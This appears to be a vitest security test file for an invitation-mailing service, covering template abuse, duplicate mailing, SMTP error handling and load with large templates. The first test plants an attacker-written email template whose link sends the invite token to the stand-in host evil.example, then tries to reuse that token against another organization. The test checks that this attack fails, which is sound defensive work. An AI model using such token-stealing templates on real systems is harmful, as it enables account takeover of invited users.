/** Attacks through invitations: what the template's author and the mail server can bring about. */
import type { AddressInfo } from "node:net";
import { SMTPServer } from "smtp-server";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Mail, MailFailed } from "../../../src/platform/mail/mail.ts";
import { smtpMailer } from "../../../src/platform/mail/smtp.ts";
import {
  createProjectionGroup,
  type ProjectionGroup,
} from "../../../src/projections/engine/group.ts";
import { mailInvitations } from "../../../src/commands/members/invitation-mailer.ts";
import { outgoingInvitations } from "../../../src/projections/invitations/invitations.ts";
import { startTestService, type TestService } from "../../support/http.ts";

let service: TestService;
let group: ProjectionGroup;
const mails: Mail[] = [];
const mailing = {
  mailer: {
    async send(mail: Mail) {
      await new Promise((resolve) => {
        setTimeout(resolve, 5);
      });
      mails.push(mail);
    },
    forget: async () => undefined,
    close: async () => undefined,
  },
  sender: "Muster <muster@localhost>",
  onResult: () => undefined,
};
beforeAll(async () => {
  service = await startTestService();
  const { pool, store, codec, log } = service.services;
  const { connection } = service.database;
  const projection = outgoingInvitations;
  group = createProjectionGroup({ projection, connection, pool, store, codec, log });
  group.start();
});
afterAll(async () => {
  await group.stop();
  await service.stop();
});
const as = (token: string, method: string, path: string, body?: unknown) =>
  service.call(method, path, { token, body });

test("who invites somebody known does not get at their other organizations by a template of their own", async () => {
  // The victim owns the first organization. The attacker has signed up: any stranger may.
  const attacker = await service.addMember("CREATOR");
  const made = await as(attacker.session, "POST", "/v1/organizations", { name: "Evil" });
  const evil = `/v1/organizations/${made.body.organizationId}`;
  const saved = await as(attacker.session, "PUT", `${evil}/invite-templates/en`, {
    subject: "You are invited",
    html: '<a href="https://evil.example/catch?{inviteLink}">Join</a>',
  });
  await as(attacker.session, "POST", `${evil}/members`, {
    email: "owner@example.com",
    firstName: "O",
    lastName: "W",
  });
  await group.waitFor(await service.services.store.lastPosition(), 5000);
  await mailInvitations(service.services, mailing);
  // The victim follows the one link of the page; the attacker's script reads location.hash there.
  const href = /href="([^"]*)"/.exec(
    mails.find(({ to }) => to === "owner@example.com")?.html ?? "",
  );
  const link = new URL(href?.[1] ?? "http://none.example");
  const token = link.hostname === "evil.example" ? link.hash.replace("#token=", "") : "none";
  const taken = await service.call("POST", "/v1/invites/accept", { body: { token } });
  const loot =
    taken.status === 200
      ? await as(
          taken.body.sessionToken,
          "GET",
          `/v1/organizations/${service.organizationId}/settings`,
        )
      : undefined;
  expect({ saved: saved.status, taken: taken.status, loot: loot?.status }).not.toEqual({
    saved: 200,
    taken: 200,
    loot: 200,
  });
});

test("several instances mail each invitation once", async () => {
  const path = `/v1/organizations/${service.organizationId}/members/batch`;
  const people = Array.from({ length: 60 }, (_, index) => ({
    email: `many-${index}@example.com`,
    firstName: "M",
    lastName: `${index}`,
  }));
  const done = await as(service.owner, "POST", path, { members: people });
  expect(done.status).toBe(207);
  await group.waitFor(await service.services.store.lastPosition(), 5000);
  await Promise.all([1, 2, 3, 4].map(() => mailInvitations(service.services, mailing)));
  const sent = mails.filter(({ to }) => to.startsWith("many-")).map(({ to }) => to);
  expect(sent.length).toBe(60);
  expect(new Set(sent).size).toBe(60);
});

test.each([
  ["the sender is refused, for all mails alike", "550 sender not allowed", 550],
  ["the server asks for authentication or encryption first", "530 Must issue STARTTLS first", 530],
])("a fault of the set-up is no fault of the invited address: %s", async (_, text, code) => {
  const server = new SMTPServer({
    authOptional: true,
    logger: false,
    onMailFrom: (_address, _session, callback) =>
      callback(Object.assign(new Error(text), { responseCode: code })),
  });
  server.on("error", () => undefined);
  await new Promise<void>((resolve) => {
    server.listen(0, "127.0.0.1", resolve);
  });
  const { port } = server.server.address() as AddressInfo;
  const mailer = smtpMailer(`smtp://127.0.0.1:${port}?tls.rejectUnauthorized=false`, "a@b.cd");
  const failure = await mailer
    .send({
      to: "x@y.zz",
      subject: "s",
      html: "h",
      text: "t",
      messageId: "<a@b>",
      link: "l",
      isLinkLogged: false,
      userId: undefined,
    })
    .catch((error: unknown) => error as MailFailed);
  await mailer.close();
  await new Promise<void>((resolve) => {
    server.close(() => resolve());
  });
  expect(failure).toMatchObject({ isPassing: true });
});

test("an owner who saves large templates often does not make every invitation carry them", async () => {
  const { services } = service;
  const made = await as(await service.signIn(service.ownerId), "POST", "/v1/organizations", {
    name: "Large",
  });
  const { organizationId } = made.body;
  const stream = `organization-${organizationId}`;
  let revision = (await services.store.readStream(stream)).length - 1;
  const html = "x".repeat(50_000);
  // What 2,000 of PUT .../invite-templates/sv write; 9,997 are allowed.
  for (let count = 0; count < 100; count += 1) {
    const events = Array.from({ length: 20 }, (_, index) => ({
      eventId: crypto.randomUUID(),
      event: {
        type: "InviteTemplateSaved",
        data: { language: "sv", subject: `s ${count} ${index}`, html },
      } as const,
      metadata: {
        occurredAt: services.clock().toISOString(),
        organizationId,
        actor: { userId: service.ownerId, via: "SESSION" },
        correlationId: crypto.randomUUID(),
      } as const,
    }));
    const records = await services.codec.encode(stream, events);
    await services.store.append(stream, revision, records);
    revision += 20;
  }
  await services.directory.waitFor(await services.store.lastPosition(), 60_000);
  const session = await service.signIn(service.ownerId);
  const before = process.memoryUsage.rss();
  const began = performance.now();
  await Promise.all(
    [1, 2, 3, 4].map((index) =>
      as(session, "POST", `/v1/organizations/${organizationId}/members`, {
        email: `large-${index}@example.com`,
        firstName: "L",
        lastName: "A",
      }),
    ),
  );
  const took = performance.now() - began;
  console.log(
    "4 invites",
    Math.round(took),
    "ms",
    Math.round((process.memoryUsage.rss() - before) / 1e6),
    "MB",
  );
  expect(took).toBeLessThan(1000);
}, 120_000);
